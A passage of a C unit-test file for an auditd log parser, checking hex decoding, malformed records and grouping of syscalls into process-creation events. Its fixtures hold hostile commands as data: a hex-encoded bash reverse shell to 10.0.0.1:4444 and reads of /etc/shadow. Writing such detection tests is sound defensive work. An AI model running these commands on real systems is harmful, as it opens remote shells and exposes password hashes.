/*
 * test_auditd.c - the auditd parser: tables of (record, expected fields) per
 * record type, hex decoding and quoting, the ENRICHED format, hostile records,
 * grouping by serial into process_creation events (interleaving, missing EOE,
 * bounds), parent lookup, and the fixture tests/fixtures/audit/attack.log end
 * to end.
 *
 * Every line is parsed from its own malloc'd copy, freed right after, and the
 * arena is reset between lines, as the pipeline resets a batch: whatever the
 * state keeps must be its own copy (ASan builds catch a dangling pointer).
 */
#include <criterion/criterion.h>
#include <criterion/logging.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "collectors/parser.h"

#define NS 1000000000LL
#define GS "\x1d"

static vg_arena arena;
static vg_event ev;
static void *state;
/* The raw copy of the last line; freed by the next parse (so the event stays readable). */
static char *last_raw;

static void setup(void)
{
    vg_arena_init(&arena, 4 << 20);
    state = vg_parser_auditd.state_create();
    cr_assert(state);
}

static void teardown(void)
{
    vg_parser_auditd.state_destroy(state);
    vg_arena_destroy(&arena);
    free(last_raw);
    last_raw = NULL;
}

TestSuite(auditd, .init = setup, .fini = teardown);

static vg_event *parse_n(void *st, const char *line, size_t n)
{
    free(last_raw);
    last_raw = malloc(n ? n : 1);
    cr_assert(last_raw);
    memcpy(last_raw, line, n);
    vg_arena_reset(&arena);
    vg_event_clear(&ev);
    ev.raw = (vg_str){last_raw, n};
    vg_parse_ctx ctx = {&arena, NULL, 0, st};
    vg_parser_auditd.parse(&ctx, &ev);
    return &ev;
}

static vg_event *parse(void *st, const char *line)
{
    return parse_n(st, line, strlen(line));
}

static uint64_t counter(void *st, const char *name)
{
    vg_parser_counter c[32];
    size_t n = vg_parser_auditd.state_counters(st, c, 32);
    for (size_t i = 0; i < n; i++)
        if (strcmp(c[i].name, name) == 0)
            return c[i].value;
    cr_assert_fail("no counter %s", name);
    return 0;
}

static void expect_field(const vg_event *e, const char *name, const char *value, size_t vn,
                         const char *line)
{
    const vg_str *v = vg_event_get(e, (vg_str){name, strlen(name)});
    if (!value) {
        cr_expect(v == NULL, "field %s should be absent, is \"%.*s\" in: %s", name,
                  v ? (int)v->n : 0, v ? v->p : "", line);
        return;
    }
    cr_expect(v != NULL, "field %s missing in: %s", name, line);
    if (v)
        cr_expect(v->n == vn && memcmp(v->p, value, vn) == 0,
                  "field %s = \"%.*s\", expected \"%.*s\" in: %s", name, (int)v->n, v->p, (int)vn,
                  value, line);
}

/* Expectations: "name=value" strings (value may be empty); "name" alone = absent. */
static void expect_fields(const vg_event *e, const char *const *exp, const char *line)
{
    for (size_t i = 0; exp[i]; i++) {
        const char *eq = strchr(exp[i], '=');
        char name[64];
        size_t nn = eq ? (size_t)(eq - exp[i]) : strlen(exp[i]);
        cr_assert(nn < sizeof name);
        memcpy(name, exp[i], nn);
        name[nn] = '\0';
        expect_field(e, name, eq ? eq + 1 : NULL, eq ? strlen(eq + 1) : 0, line);
    }
}

/* ---- records, one by one ---- */

typedef struct {
    const char *line;
    int64_t ts_ns;
    const char *exp[24];
} rec_case;

static const rec_case records[] = {
    {"type=SYSCALL msg=audit(1700000000.123:4567): arch=c000003e syscall=59 success=yes exit=0 "
     "a0=55d4c9e0b2a0 a1=7ffd a2=2 a3=8 items=2 ppid=1000 pid=1234 auid=1000 uid=0 gid=0 euid=33 "
     "tty=pts0 ses=3 comm=\"bash\" exe=\"/usr/bin/bash\" subj=unconfined key=\"exec\"",
     1700000000123000000LL,
     {"type=SYSCALL", "audit_serial=4567", "arch=c000003e", "syscall=59", "SYSCALL=execve",
      "a0=55d4c9e0b2a0", "a1=7ffd", "ppid=1000", "pid=1234", "euid=33", "comm=bash",
      "exe=/usr/bin/bash", "key=exec", "subj=unconfined", "node", NULL}},
    /* syscall names: memfd_create, mknod, syslog with a0 kept as the hex number */
    {"type=SYSCALL msg=audit(1700000000.1:1): arch=c000003e syscall=319 success=yes exit=3 "
     "comm=\"ecasound\" exe=\"/usr/bin/ecasound\"",
     1700000000100000000LL,
     {"SYSCALL=memfd_create", "exe=/usr/bin/ecasound", NULL}},
    {"type=SYSCALL msg=audit(1700000000.000:2): arch=c000003e syscall=103 a0=4 comm=\"dmesg\"",
     0,
     {"SYSCALL=syslog", "a0=4", NULL}},
    /* i386 on x86_64; another arch: no name guessed; an out-of-table number: none either */
    {"type=SYSCALL msg=audit(1700000000.000:3): arch=40000003 syscall=11 comm=\"sh\"",
     0,
     {"syscall=11", "SYSCALL=execve", NULL}},
    {"type=SYSCALL msg=audit(1700000000.000:3): arch=c00000b7 syscall=221 comm=\"sh\"",
     0,
     {"syscall=221", "SYSCALL", NULL}},
    {"type=SYSCALL msg=audit(1700000000.000:3): arch=c000003e syscall=335 comm=\"sh\"",
     0,
     {"syscall=335", "SYSCALL", NULL}},
    {"type=SYSCALL msg=audit(1700000000.000:3): arch=c000003e syscall=99999 comm=\"sh\"",
     0,
     {"syscall=99999", "SYSCALL", NULL}},
    /* hex exe and comm (spaces in them) */
    {"type=SYSCALL msg=audit(1700000000.000:4): arch=c000003e syscall=59 comm=6D7920636D64 "
     "exe=2F746D702F6D792062696E key=(null)",
     0,
     {"comm=my cmd", "exe=/tmp/my bin", "key=(null)", NULL}},
    /* EXECVE: quoted, hex (with spaces), and hex that is also a plain word stays decoded */
    {"type=EXECVE msg=audit(1700000000.123:4567): argc=3 a0=\"bash\" a1=\"-c\" "
     "a2=62617368202D69203E26202F6465762F7463702F31302E302E302E312F3434343420303E2631",
     0,
     {"type=EXECVE", "argc=3", "a0=bash", "a1=-c", "a2=bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
      NULL}},
    {"type=EXECVE msg=audit(1700000000.000:5): argc=2 a0=\"chmod\" a1=\"777\"",
     0,
     {"a0=chmod", "a1=777", NULL}},
    /* a long argument in chunks */
    {"type=EXECVE msg=audit(1700000000.000:6): argc=2 a0=\"echo\" a1_len=6 a1[0]=616263 "
     "a1[1]=\"def\"",
     0,
     {"a0=echo", "a1_len=6", "a1[0]=abc", "a1[1]=def", NULL}},
    /* odd-length and non-hex unquoted values stay as written */
    {"type=EXECVE msg=audit(1700000000.000:7): argc=2 a0=616 a1=6G6F",
     0,
     {"a0=616", "a1=6G6F", NULL}},
    {"type=CWD msg=audit(1700000000.000:8): cwd=\"/root\"", 0, {"type=CWD", "cwd=/root", NULL}},
    {"type=CWD msg=audit(1700000000.000:8): cwd=2F746D702F612062", 0, {"cwd=/tmp/a b", NULL}},
    {"type=PATH msg=audit(1700000000.000:9): item=0 name=\"/etc/shadow\" inode=42 dev=08:01 "
     "mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0",
     0,
     {"type=PATH", "item=0", "name=/etc/shadow", "nametype=NORMAL", "mode=0100640", NULL}},
    {"type=PATH msg=audit(1700000000.000:9): item=1 name=(null) inode=1 nametype=CREATE",
     0,
     {"name=(null)", "nametype=CREATE", NULL}},
    /* proctitle: NUL separators -> spaces */
    {"type=PROCTITLE msg=audit(1700000000.000:10): proctitle=636174002F6574632F736861646F77",
     0,
     {"type=PROCTITLE", "proctitle=cat /etc/shadow", NULL}},
    {"type=PROCTITLE msg=audit(1700000000.000:10): proctitle=\"-bash\"",
     0,
     {"proctitle=-bash", NULL}},
    {"type=EOE msg=audit(1700000000.000:11):",
     1700000000000000000LL,
     {"type=EOE", "audit_serial=11", "message=", NULL}},
    /* user-space records: the inner msg='...' pairs are fields */
    {"type=USER_LOGIN msg=audit(1700000000.000:12): pid=2980 uid=0 auid=1000 ses=3 "
     "subj=unconfined msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=10.0.0.5 "
     "addr=10.0.0.5 terminal=/dev/pts/0 res=success'",
     0,
     {"type=USER_LOGIN", "pid=2980", "op=login", "id=1000", "exe=/usr/sbin/sshd",
      "hostname=10.0.0.5", "addr=10.0.0.5", "terminal=/dev/pts/0", "res=success", "msg", NULL}},
    {"type=USER_AUTH msg=audit(1700000000.000:13): pid=1 uid=0 auid=4294967295 ses=4294967295 "
     "msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=h "
     "addr=1.2.3.4 terminal=ssh res=failed'",
     0,
     {"op=PAM:authentication", "grantors=?", "acct=root", "res=failed", NULL}},
    {"type=USER_CMD msg=audit(1700000000.000:14): pid=5 uid=1000 auid=1000 ses=1 "
     "msg='cwd=\"/home/alice\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" "
     "terminal=pts/0 res=success'",
     0,
     {"type=USER_CMD", "cwd=/home/alice", "cmd=cat /etc/shadow", "exe=/usr/bin/sudo", NULL}},
    {"type=ADD_USER msg=audit(1700000000.000:15): pid=6 uid=0 auid=1000 ses=3 msg='op=add-user "
     "acct=\"bob\" exe=\"/usr/sbin/useradd\" hostname=web01 addr=? terminal=pts/0 res=success'",
     0,
     {"type=ADD_USER", "op=add-user", "acct=bob", "exe=/usr/sbin/useradd", "addr=?", NULL}},
    {"type=ADD_GROUP msg=audit(1700000000.000:16): pid=6 uid=0 auid=1000 msg='op=add-group "
     "acct=626F622073706163 exe=\"/usr/sbin/groupadd\" res=success'",
     0,
     {"type=ADD_GROUP", "acct=bob spac", NULL}},
    {"type=DEL_USER msg=audit(1700000000.000:17): pid=6 uid=0 auid=1000 msg='op=delete-user "
     "acct=\"bob\" exe=\"/usr/sbin/userdel\" res=success'",
     0,
     {"type=DEL_USER", "op=delete-user", NULL}},
    {"type=SERVICE_STOP msg=audit(1700000000.000:18): pid=1 uid=0 auid=4294967295 "
     "ses=4294967295 subj=unconfined msg='unit=firewalld comm=\"systemd\" "
     "exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
     0,
     {"type=SERVICE_STOP", "unit=firewalld", "comm=systemd", NULL}},
    {"type=SERVICE_START msg=audit(1700000000.000:19): pid=1 uid=0 msg='unit=sshd "
     "comm=\"systemd\" res=success'",
     0,
     {"type=SERVICE_START", "unit=sshd", NULL}},
    {"type=CONFIG_CHANGE msg=audit(1700000000.000:20): auid=1000 ses=2 op=remove_rule "
     "key=\"exec\" list=4 res=1",
     0,
     {"type=CONFIG_CHANGE", "op=remove_rule", "key=exec", "list=4", "res=1", NULL}},
    /* AVC: the words without '=' are skipped, the pairs kept */
    {"type=AVC msg=audit(1700000000.000:21): avc:  denied  { read } for  pid=1234 comm=\"cat\" "
     "name=\"shadow\" dev=\"sda1\" ino=123 scontext=system_u:system_r:httpd_t:s0 "
     "tcontext=system_u:object_r:shadow_t:s0 tclass=file permissive=0",
     0,
     {"type=AVC", "pid=1234", "comm=cat", "name=shadow", "tclass=file", "permissive=0", NULL}},
    {"type=ANOM_ABEND msg=audit(1700000000.000:22): auid=1000 uid=1000 gid=1000 ses=2 pid=77 "
     "comm=\"crashy\" exe=\"/usr/bin/crashy\" sig=11 res=1",
     0,
     {"type=ANOM_ABEND", "sig=11", "comm=crashy", NULL}},
    {"type=ANOM_PROMISCUOUS msg=audit(1700000000.000:23): dev=eth0 prom=256 old_prom=0 "
     "auid=1000 uid=0 gid=0 ses=2",
     0,
     {"type=ANOM_PROMISCUOUS", "dev=eth0", "prom=256", NULL}},
    {"type=CRED_ACQ msg=audit(1700000000.000:24): pid=1 uid=0 msg='op=PAM:setcred "
     "grantors=pam_unix acct=\"root\" exe=\"/usr/bin/su\" res=success'",
     0,
     {"type=CRED_ACQ", "op=PAM:setcred", "acct=root", NULL}},
    {"type=USER_START msg=audit(1700000000.000:25): pid=1 uid=0 msg='op=PAM:session_open "
     "acct=\"root\" res=success'",
     0,
     {"type=USER_START", NULL}},
    {"type=TTY msg=audit(1700000000.000:26): tty pid=9 uid=0 auid=1000 ses=1 major=136 minor=0 "
     "comm=\"bash\" data=6C730D",
     0,
     {"type=TTY", "data=ls\r", NULL}},
    /* ENRICHED: the interpretations after GS; SYSCALL= wins over the table */
    {"type=SYSCALL msg=audit(1700000000.500:30): arch=c000003e syscall=59 success=yes exit=0 "
     "ppid=1 pid=2 auid=1000 uid=0 comm=\"id\" exe=\"/usr/bin/id\" key=(null)" GS
     "ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\"",
     1700000000500000000LL,
     {"SYSCALL=execve", "ARCH=x86_64", "AUID=alice", "UID=root", "uid=0", "auid=1000",
      "message=arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 "
      "comm=\"id\" exe=\"/usr/bin/id\" key=(null)",
      NULL}},
    {"type=USER_LOGIN msg=audit(1700000000.000:31): pid=1 uid=0 auid=1000 msg='op=login "
     "res=success'" GS "UID=\"root\" AUID=\"alice\" ID=\"alice\"",
     0,
     {"op=login", "UID=root", "AUID=alice", "ID=alice", NULL}},
    /* node= prefix (name_format) */
    {"node=web01 type=EOE msg=audit(1700000000.000:32):", 0, {"node=web01", "type=EOE", NULL}},
    /* an unterminated quote runs to the end */
    {"type=PATH msg=audit(1700000000.000:33): item=0 name=\"/etc/pass",
     0,
     {"name=/etc/pass", NULL}},
    /* the body cannot replace the header's fields */
    {"type=USER_AVC msg=audit(1700000000.000:35): pid=1 msg='type=EXECVE audit_serial=1 "
     "message=x node=y a0=\"evil\"'",
     0,
     {"type=USER_AVC", "audit_serial=35", "node", "a0=evil", NULL}},
    /* CR LF */
    {"type=CWD msg=audit(1700000000.000:34): cwd=\"/\"\r\n", 0, {"cwd=/", NULL}},
};

static void check_record(const rec_case *c)
{
    vg_event *e = parse(NULL, c->line);
    cr_expect((e->flags & VG_EV_PARSE_FAILED) == 0, "parse failed: %s", c->line);
    cr_expect(e->service2 && strcmp(e->service2, "auditd") == 0);
    if (c->ts_ns)
        cr_expect(e->ts_ns == c->ts_ns, "ts %lld, expected %lld: %s", (long long)e->ts_ns,
                  (long long)c->ts_ns, c->line);
    const vg_str *m = vg_event_get(e, VG_STR("message"));
    cr_expect(m && m->n == e->message.n);
    expect_fields(e, c->exp, c->line);
    /* the same line with a state: identical record fields */
    e = parse(state, c->line);
    expect_fields(e, c->exp, c->line);
}

Test(auditd, records_table)
{
    for (size_t i = 0; i < sizeof records / sizeof records[0]; i++)
        check_record(&records[i]);
}

Test(auditd, pid_and_host)
{
    vg_event *e = parse(NULL, "node=db1 type=SYSCALL msg=audit(1.0:1): pid=77 ppid=1");
    cr_expect(vg_str_eqc(e->pid, "77"));
    cr_expect(vg_str_eqc(e->hostname, "db1"));
    cr_expect(e->program.n == 0, "no program: message field definitions must not apply");
}

Test(auditd, values_point_into_raw_unless_decoded)
{
    vg_event *e = parse(NULL, "type=EXECVE msg=audit(1.0:1): argc=2 a0=\"ls\" a1=2D6C2061");
    const vg_str *a0 = vg_event_get(e, VG_STR("a0")), *a1 = vg_event_get(e, VG_STR("a1"));
    cr_assert(a0 && a1);
    cr_expect(a0->p >= e->raw.p && a0->p + a0->n <= e->raw.p + e->raw.n);
    cr_expect(!(a1->p >= e->raw.p && a1->p < e->raw.p + e->raw.n), "decoded: in the arena");
}

/* ---- malformed and hostile records ---- */

static const char *const malformed[] = {
    "",
    "garbage",
    "type=SYSCALL arch=c000003e syscall=59",        /* no msg= */
    "type=SYSCALL msg=audit(): arch=c000003e",      /* no time */
    "type=SYSCALL msg=audit(1700000000.123): x=1",  /* no serial */
    "type=SYSCALL msg=audit(1700000000.123:12 x=1", /* no "):" */
    "type=SYSCALL msg=audit(abc.123:12): x=1",
    "type= msg=audit(1.1:1): x=1",                                       /* empty type */
    "msg=audit(1700000000.123:4567): arch=c000003e",                     /* no type */
    "node=h",                                                            /* node and nothing */
    "type=SYSCALL msg=audit(1700000000.123:123456789012345678901): x=1", /* serial too long */
};

Test(auditd, malformed_lines_fail_without_fields)
{
    for (size_t i = 0; i < sizeof malformed / sizeof malformed[0]; i++) {
        vg_event *e = parse(state, malformed[i]);
        cr_expect(e->flags & VG_EV_PARSE_FAILED, "should fail: %s", malformed[i]);
        cr_expect(vg_event_get(e, VG_STR("type")) == NULL, "%s", malformed[i]);
        cr_expect(e->message.n == strlen(malformed[i]), "%s", malformed[i]);
    }
}

Test(auditd, nul_bytes)
{
    static const char line[] = "type=EXECVE msg=audit(1.5:9): argc=2 a0=\"c\0t\" a1=00610062 a\0=1";
    vg_event *e = parse_n(state, line, sizeof line - 1);
    cr_expect((e->flags & VG_EV_PARSE_FAILED) == 0);
    expect_field(e, "a0", "c\0t", 3, "nul");
    expect_field(e, "a1", "\0a\0b", 4, "nul");
    /* a key holding a NUL or control byte is no pair: alert JSON keys stay
       printable (found by fuzz_auditd) */
    cr_expect(vg_event_get(e, (vg_str){"a\0", 2}) == NULL, "key with a NUL");
    static const char ctl[] = "type=USER_LOGIN msg=audit(1.5:9): pid=1 "
                              "msg='op=login ac\006\0ct=\"root\" \xe9x=1 res=failed'";
    e = parse_n(state, ctl, sizeof ctl - 1);
    expect_field(e, "op", "login", 5, "ctl");
    expect_field(e, "res", "failed", 6, "ctl");
    for (unsigned i = 0; i < e->nfields; i++)
        for (size_t k = 0; k < e->fields[i].name.n; k++)
            cr_expect((unsigned char)e->fields[i].name.p[k] > 0x20 &&
                          (unsigned char)e->fields[i].name.p[k] < 0x7f,
                      "field name byte %#x", (unsigned char)e->fields[i].name.p[k]);
    static const char hdr[] = "type=EOE\0msg=audit(1.5:9):";
    e = parse_n(state, hdr, sizeof hdr - 1);
    cr_expect(e->flags & VG_EV_PARSE_FAILED);
}

Test(auditd, huge_line)
{
    size_t n = 1u << 20;
    char *line = malloc(n + 1);
    cr_assert(line);
    int h = snprintf(line, n, "type=EXECVE msg=audit(1700000000.000:1): argc=100000 a0=");
    /* one 1 MB hex argument: decoded (even length), then kept (odd length) */
    cr_assert((n - (size_t)h) % 2 == 0);
    memset(line + h, 'A', n - (size_t)h);
    line[n - 1] = 'B';
    vg_event *e = parse_n(state, line, n);
    cr_expect((e->flags & VG_EV_PARSE_FAILED) == 0);
    const vg_str *a0 = vg_event_get(e, VG_STR("a0"));
    cr_expect(a0 && a0->n == (n - (size_t)h) / 2 && (unsigned char)a0->p[a0->n - 1] == 0xAB);
    e = parse_n(state, line, n - 1);
    a0 = vg_event_get(e, VG_STR("a0"));
    cr_expect(a0 && a0->n == n - 1 - (size_t)h && a0->p == e->raw.p + h);
    /* many small pairs: fields stop at the cap, the parse finishes */
    size_t k = (size_t)snprintf(line, n, "type=PATH msg=audit(1700000000.000:2):");
    while (k + 16 < n)
        k += (size_t)snprintf(line + k, n - k, " name=41424344");
    e = parse_n(state, line, k);
    cr_expect(e->nfields <= VG_EVENT_MAX_FIELDS);
    expect_field(e, "name", "ABCD", 4, "huge");
    free(line);
}

Test(auditd, truncated_and_odd_hex)
{
    vg_event *e = parse(NULL, "type=PROCTITLE msg=audit(1.0:1): proctitle=6361740");
    expect_field(e, "proctitle", "6361740", 7, "odd");
    e = parse(NULL, "type=PROCTITLE msg=audit(1.0:1): proctitle=63");
    expect_field(e, "proctitle", "c", 1, "short");
    e = parse(NULL, "type=PROCTITLE msg=audit(1.0:1): proctitle=");
    expect_field(e, "proctitle", "", 0, "empty");
    e = parse(NULL, "type=PROCTITLE msg=audit(1.0:1): proctitle=6");
    expect_field(e, "proctitle", "6", 1, "one digit");
    e = parse(NULL, "type=PROCTITLE msg=audit(1.0:1): proctitle=\"");
    expect_field(e, "proctitle", "", 0, "lone quote");
    e = parse(NULL, "type=PROCTITLE msg=audit(1.0:1): =x ==y proctitle==");
    expect_field(e, "proctitle", "=", 1, "equals");
}

Test(auditd, arena_exhausted_keeps_hex)
{
    vg_arena tiny;
    vg_arena_init(&tiny, 0);
    static const char line[] = "type=EXECVE msg=audit(1.0:1): argc=1 a0=6C73";
    vg_event_clear(&ev);
    ev.raw = VG_STR(line);
    vg_parse_ctx ctx = {&tiny, NULL, 0, NULL};
    vg_parser_auditd.parse(&ctx, &ev);
    expect_field(&ev, "a0", "6C73", 4, "no arena");
    cr_expect(ev.flags & VG_EV_FIELDS_DROPPED);
    vg_arena_destroy(&tiny);
    /* no ctx at all */
    vg_event_clear(&ev);
    ev.raw = VG_STR(line);
    vg_parser_auditd.parse(NULL, &ev);
    expect_field(&ev, "a0", "6C73", 4, "no ctx");
}

/* ---- grouping ---- */

#define H(serial) "msg=audit(1700000000.500:" #serial "):"

static void syscall_rec(void *st, int serial, int pid, int ppid, const char *exe)
{
    char line[512];
    snprintf(line, sizeof line,
             "type=SYSCALL msg=audit(1700000000.500:%d): arch=c000003e syscall=59 success=yes "
             "exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=%d pid=%d auid=1000 uid=0 euid=0 tty=pts0 "
             "ses=3 comm=\"x\" exe=\"%s\" key=\"exec\"",
             serial, ppid, pid, exe);
    vg_event *e = parse(st, line);
    cr_expect(vg_str_eqc(*vg_event_get(e, VG_STR("type")), "SYSCALL"));
}

static vg_event *simple_rec(void *st, const char *type, int serial, const char *rest)
{
    char line[1024];
    snprintf(line, sizeof line, "type=%s msg=audit(1700000000.500:%d): %s", type, serial, rest);
    return parse(st, line);
}

static bool is_proc_creation(const vg_event *e)
{
    return e->logsource && e->logsource->category &&
           strcmp(e->logsource->category, "process_creation") == 0;
}

Test(auditd, merge_one_execve)
{
    syscall_rec(state, 100, 1234, 1000, "/usr/bin/bash");
    simple_rec(state, "EXECVE", 100, "argc=3 a0=\"bash\" a1=\"-c\" a2=6563686F206869");
    simple_rec(state, "CWD", 100, "cwd=\"/root\"");
    simple_rec(state, "PATH", 100, "item=0 name=\"/usr/bin/bash\" nametype=NORMAL");
    vg_event *e = simple_rec(state, "PROCTITLE", 100, "proctitle=62617368002D63");
    cr_expect(!is_proc_creation(e));
    e = simple_rec(state, "EOE", 100, "");
    cr_assert(is_proc_creation(e));
    cr_expect(strcmp(e->logsource->product, "linux") == 0 && e->logsource->service == NULL);
    cr_expect(e->service2 == NULL);
    cr_expect(e->ts_ns == 1700000000500000000LL);
    static const char *const exp[] = {"Image=/usr/bin/bash",
                                      "CommandLine=bash -c echo hi",
                                      "CurrentDirectory=/root",
                                      "User=0",
                                      "LogonId=1000",
                                      "ProcessId=1234",
                                      "ParentProcessId=1000",
                                      "audit_serial=100",
                                      "message=bash -c echo hi",
                                      "syscall=59",
                                      "SYSCALL=execve",
                                      "exe=/usr/bin/bash",
                                      "key=exec",
                                      "euid=0",
                                      "ParentImage",
                                      "ParentCommandLine",
                                      "type",
                                      NULL};
    expect_fields(e, exp, "merged");
    cr_expect(vg_str_eqc(e->pid, "1234"));
    cr_expect(vg_str_eqc(e->message, "bash -c echo hi"));
    cr_expect(counter(state, "groups_merged") == 1);
    cr_expect(counter(state, "parents_missing") == 1);
}

Test(auditd, merge_enriched_user_name)
{
    parse(state, "type=SYSCALL " H(7) " arch=c000003e syscall=59 success=yes ppid=1 pid=2 "
                                      "auid=1000 uid=0 exe=\"/usr/bin/id\"" GS
                                      "ARCH=x86_64 SYSCALL=execve "
                                      "AUID=\"alice\" UID=\"root\"");
    parse(state, "type=EXECVE " H(7) " argc=1 a0=\"id\"");
    vg_event *e = parse(state, "type=EOE " H(7));
    static const char *const exp[] = {"User=root",      "LogonId=1000",     "AUID=alice",
                                      "CommandLine=id", "CurrentDirectory", NULL};
    expect_fields(e, exp, "enriched");
}

Test(auditd, group_without_execve_stays_a_record)
{
    syscall_rec(state, 5, 10, 1, "/usr/bin/cat");
    simple_rec(state, "CWD", 5, "cwd=\"/\"");
    simple_rec(state, "PATH", 5, "item=0 name=\"/etc/shadow\"");
    vg_event *e = simple_rec(state, "EOE", 5, "");
    cr_expect(!is_proc_creation(e));
    expect_field(e, "type", "EOE", 3, "eoe");
    cr_expect(counter(state, "groups_plain") == 1);
    cr_expect(counter(state, "groups_merged") == 0);
}

Test(auditd, eoe_alone_and_orphans)
{
    vg_event *e = simple_rec(state, "EOE", 77, "");
    cr_expect(!is_proc_creation(e));
    simple_rec(state, "EXECVE", 78, "argc=1 a0=\"x\"");
    e = simple_rec(state, "EOE", 78, "");
    cr_expect(!is_proc_creation(e), "no SYSCALL: no group");
    cr_expect(counter(state, "records_orphan") == 1);
}

Test(auditd, interleaved_serials)
{
    syscall_rec(state, 200, 20, 1, "/usr/bin/ls");
    syscall_rec(state, 201, 21, 1, "/usr/bin/ps");
    simple_rec(state, "USER_LOGIN", 500, "pid=1 msg='op=login res=success'");
    simple_rec(state, "EXECVE", 201, "argc=2 a0=\"ps\" a1=\"aux\"");
    simple_rec(state, "EXECVE", 200, "argc=2 a0=\"ls\" a1=\"-la\"");
    simple_rec(state, "CWD", 200, "cwd=\"/a\"");
    simple_rec(state, "CWD", 201, "cwd=\"/b\"");
    vg_event *e = simple_rec(state, "EOE", 201, "");
    static const char *const exp1[] = {"Image=/usr/bin/ps", "CommandLine=ps aux",
                                       "CurrentDirectory=/b", "ProcessId=21", NULL};
    expect_fields(e, exp1, "201");
    e = simple_rec(state, "EOE", 200, "");
    static const char *const exp2[] = {"Image=/usr/bin/ls", "CommandLine=ls -la",
                                       "CurrentDirectory=/a", "ProcessId=20", NULL};
    expect_fields(e, exp2, "200");
    cr_expect(counter(state, "groups_merged") == 2);
    cr_expect(counter(state, "groups_dropped") == 0);
}

Test(auditd, missing_eoe_dropped_and_counted)
{
    /* serial 300 never ends; four more events evict it (4 slots) */
    syscall_rec(state, 300, 30, 1, "/usr/bin/lost");
    simple_rec(state, "EXECVE", 300, "argc=1 a0=\"lost\"");
    for (int s = 301; s <= 304; s++) {
        syscall_rec(state, s, s, 1, "/usr/bin/ok");
        simple_rec(state, "EXECVE", s, "argc=1 a0=\"ok\"");
        cr_expect(is_proc_creation(simple_rec(state, "EOE", s, "")));
    }
    cr_expect(counter(state, "groups_dropped") == 0, "free slots first");
    cr_expect(counter(state, "groups_pending") == 1);
    /* now fill every slot without EOE, then one more */
    for (int s = 310; s <= 314; s++)
        syscall_rec(state, s, s, 1, "/usr/bin/hang");
    cr_expect(counter(state, "groups_dropped") == 2, "300 and 310 evicted: %llu",
              (unsigned long long)counter(state, "groups_dropped"));
    vg_event *e = simple_rec(state, "EOE", 300, "");
    cr_expect(!is_proc_creation(e), "300 was dropped");
    cr_expect(counter(state, "groups_pending") == 4);
    e = simple_rec(state, "EOE", 314, "");
    cr_expect(!is_proc_creation(e), "no EXECVE");
    cr_expect(counter(state, "groups_plain") == 1);
}

Test(auditd, bounds_records_and_bytes)
{
    syscall_rec(state, 400, 40, 1, "/usr/bin/pad");
    /* 70 EXECVE records: past 64 they are ignored, the EOE still merges */
    char rest[128];
    for (int i = 0; i < 70; i++) {
        snprintf(rest, sizeof rest, "a%d=\"x%d\"", i, i);
        simple_rec(state, "EXECVE", 400, rest);
    }
    vg_event *e = simple_rec(state, "EOE", 400, "");
    cr_assert(is_proc_creation(e));
    cr_expect(counter(state, "groups_overflow") == 1);
    const vg_str *cl = vg_event_get(e, VG_STR("CommandLine"));
    cr_assert(cl);
    cr_expect(cl->n > 100 && memcmp(cl->p, "x0 x1 x2", 8) == 0);

    /* a 10 KB argument (20 KB of hex) is cut at 8 KiB of CommandLine, counted */
    syscall_rec(state, 401, 41, 1, "/usr/bin/long");
    char *line = malloc(24000);
    cr_assert(line);
    int k = snprintf(line, 24000, "type=EXECVE " H(401) " argc=2 a0=\"echo\" a1=");
    for (int i = 0; i < 20000; i++)
        line[k++] = "41"[i % 2];
    line[k] = '\0';
    parse(state, line);
    free(line);
    e = simple_rec(state, "EOE", 401, "");
    cl = vg_event_get(e, VG_STR("CommandLine"));
    cr_assert(cl);
    cr_expect(cl->n == 8192, "%zu", cl->n);
    cr_expect(counter(state, "values_truncated") == 1);
}

Test(auditd, parent_lookup_across_groups)
{
    syscall_rec(state, 600, 3000, 2999, "/usr/bin/bash");
    simple_rec(state, "EXECVE", 600, "argc=2 a0=\"bash\" a1=\"-i\"");
    simple_rec(state, "EOE", 600, "");
    syscall_rec(state, 601, 3001, 3000, "/usr/bin/whoami");
    simple_rec(state, "EXECVE", 601, "argc=1 a0=\"whoami\"");
    vg_event *e = simple_rec(state, "EOE", 601, "");
    static const char *const exp[] = {"Image=/usr/bin/whoami", "ParentImage=/usr/bin/bash",
                                      "ParentCommandLine=bash -i", "ParentProcessId=3000", NULL};
    expect_fields(e, exp, "parent");
    cr_expect(counter(state, "parents_found") == 1);
    /* pid 3000 execs again: its children now see the new image */
    syscall_rec(state, 602, 3000, 2999, "/usr/bin/python3");
    simple_rec(state, "EXECVE", 602, "argc=1 a0=\"python3\"");
    simple_rec(state, "EOE", 602, "");
    syscall_rec(state, 603, 3002, 3000, "/usr/bin/sh");
    simple_rec(state, "EXECVE", 603, "argc=1 a0=\"sh\"");
    e = simple_rec(state, "EOE", 603, "");
    expect_field(e, "ParentImage", "/usr/bin/python3", 16, "re-exec");
    /* a failed execve does not replace the image */
    parse(state, "type=SYSCALL " H(604) " arch=c000003e syscall=59 success=no exit=-2 ppid=2999 "
                                        "pid=3000 exe=\"/usr/bin/nope\"");
    simple_rec(state, "EXECVE", 604, "argc=1 a0=\"nope\"");
    cr_expect(is_proc_creation(simple_rec(state, "EOE", 604, "")));
    syscall_rec(state, 605, 3003, 3000, "/usr/bin/sh");
    simple_rec(state, "EXECVE", 605, "argc=1 a0=\"sh\"");
    e = simple_rec(state, "EOE", 605, "");
    expect_field(e, "ParentImage", "/usr/bin/python3", 16, "failed exec");
}

Test(auditd, parent_table_is_bounded)
{
    char exe[64];
    for (int i = 0; i < 5000; i++) {
        snprintf(exe, sizeof exe, "/usr/bin/p%d", i);
        syscall_rec(state, 1000 + i, 10000 + i, 1, exe);
        simple_rec(state, "EXECVE", 1000 + i, "argc=1 a0=\"p\"");
        simple_rec(state, "EOE", 1000 + i, "");
    }
    cr_expect(counter(state, "parents_evicted") == 5000 - 4096);
    /* the oldest pid is gone, a recent one is there */
    syscall_rec(state, 9000, 20000, 10000, "/usr/bin/c");
